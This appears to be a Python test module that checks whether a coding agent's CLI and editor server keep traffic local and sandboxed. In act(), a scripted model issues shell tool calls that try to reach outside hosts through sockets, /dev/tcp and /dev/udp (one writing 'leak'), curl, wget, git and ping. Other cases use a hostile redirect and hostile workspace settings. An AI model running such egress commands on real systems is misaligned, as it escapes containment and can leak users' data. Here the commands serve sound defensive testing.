"""What is done in each world; every function is a case, and what it returns is told to its test."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

from tests.netns.hostile import EVIL, SETTINGS
from tests.support.answers import Answer
from tests.support.lsp_client import LspClient, ReplyFailed
from tests.support.streams import chat_stream

if TYPE_CHECKING:
    from tests.netns.world import World


def ask(world: World) -> list[Any]:
    """Ask in the shell, once for people and once for programs."""
    return [world.run("exec", "hi"), world.run("exec", "--json", "hi")]


def go_on(world: World) -> list[Any]:
    """Go on with a conversation, and look at what there is."""
    said = [world.run("exec", "hi"), world.run("exec", "resume", "--last", "more")]
    return [*said, *(world.run(command) for command in ("threads", "stats", "profiles"))]


def act(world: World) -> Any:
    """A model that tries every way out that a command has."""
    python = "python3 -c 'import socket; socket.create_connection((\"203.0.113.7\", 443), 2)'"
    ways = (
        f"{python}; echo status $?",
        "exec 3<>/dev/tcp/203.0.113.7/80; echo status $?",
        "exec 3<>/dev/udp/203.0.113.7/53 && echo leak >&3; echo status $?",
        "getent hosts evil.example; git ls-remote https://203.0.113.7/x; echo status $?",
        "curl -m 2 http://203.0.113.7/ || wget -T 2 -t 1 http://203.0.113.7/; ping -c1 203.0.113.7; echo status $?",
    )
    for number, command in enumerate(ways):
        function = {"name": "shell", "arguments": json.dumps({"command": command})}
        call = {"index": 0, "id": f"c{number}", "type": "function", "function": function}
        world.model.enqueue(chat_stream(tool_calls=[call], finish_reason="tool_calls"))
    code, text = world.run("exec", "--sandbox", "workspace-write", "do it")
    messages = world.model.turns[-1].json["messages"]
    return [code, text, [m["content"] for m in messages if m["role"] == "tool"]]


def redirected(world: World) -> Any:
    """The model server sends everybody elsewhere."""
    location = {"Location": f"http://{EVIL}/v1/chat/completions"}
    world.model.always(Answer(status=307, headers=location, framing="length"))
    return world.run("exec", "hi")


def far_under_the_lock(world: World) -> list[Any]:
    """Two profiles elsewhere, a number and a name, while only this machine is allowed."""
    profiles = ("far", "named")
    return [world.run("exec", "--local-only", "--profile", name, "hi") for name in profiles]


def far(world: World) -> Any:
    """A profile that really is elsewhere, without a proxy: what the watch must see."""
    no_proxy = {name: "" for name in world.env if name.lower().endswith("_proxy")}
    return world.run("exec", "--profile", "far", "hi", env=no_proxy)


def named(world: World) -> Any:
    """The same by its name."""
    no_proxy = {name: "" for name in world.env if name.lower().endswith("_proxy")}
    return world.run("exec", "--profile", "named", "hi", env=no_proxy)


def past_the_proxy(world: World) -> list[Any]:
    """A server on the user's own network, which a range in NO_PROXY lets past a proxy that is not there."""
    world.configure("http://10.9.8.7:1234/v1")
    exempt = {
        "HTTP_PROXY": "http://127.0.0.1:9",
        "http_proxy": "http://127.0.0.1:9",
        "NO_PROXY": "127.0.0.0/8, 10.0.0.0/8",
        "no_proxy": "127.0.0.0/8, 10.0.0.0/8",
    }
    return [world.run("exec", "hi", env=exempt), world.run("doctor", env=exempt)]


def look_around(world: World) -> Any:
    """`discover`."""
    return world.run("discover")


def examine(world: World) -> Any:
    """`doctor` on the profile in use."""
    return world.run("doctor")


def examine_nothing(world: World) -> Any:
    """`doctor` where no server is."""
    world.configure("http://127.0.0.1:9/v1")
    return world.run("doctor")


def built_in(world: World) -> Any:
    """The built-in model."""
    return world.run("exec", "--profile", "embedded", "-m", "smollm2-135m", "hi")


async def serve(world: World) -> Any:
    """An editor with a hostile workspace: ask, cancel, list, and leave."""
    async with LspClient.spawned(env=world.env, cwd=world.repository) as client:
        client.answers["workspace/configuration"] = lambda params: [
            SETTINGS for _ in params["items"]
        ]
        await client.initialize(
            capabilities={"workspace": {"configuration": True}},
            options={**SETTINGS, "trusted": False},
            folders=[world.repository],
        )
        uri = await client.open(world.repository / "main.py", "print('hello')\n")
        asked = {"prompt": "hi", "textDocument": {"uri": uri}, "workDoneToken": "t"}
        call = await client.send("codex/exec", asked)
        try:
            result = await call.result()
        except ReplyFailed as failed:
            return failed.error
        for method in ("codex/profiles", "codex/threads", "codex/models"):
            await (await client.send(method, {})).reply()
        assert await client.leave() == 0
        return result["status"]


async def serve_and_do_nothing(world: World) -> Any:
    """An editor that starts, opens a file and leaves."""
    async with LspClient.spawned(env=world.env, cwd=world.repository) as client:
        await client.initialize(folders=[world.repository])
        await client.open(world.repository / "main.py", "print('hello')\n")
        await (await client.send("codex/profiles", {})).reply()
        return await client.leave()
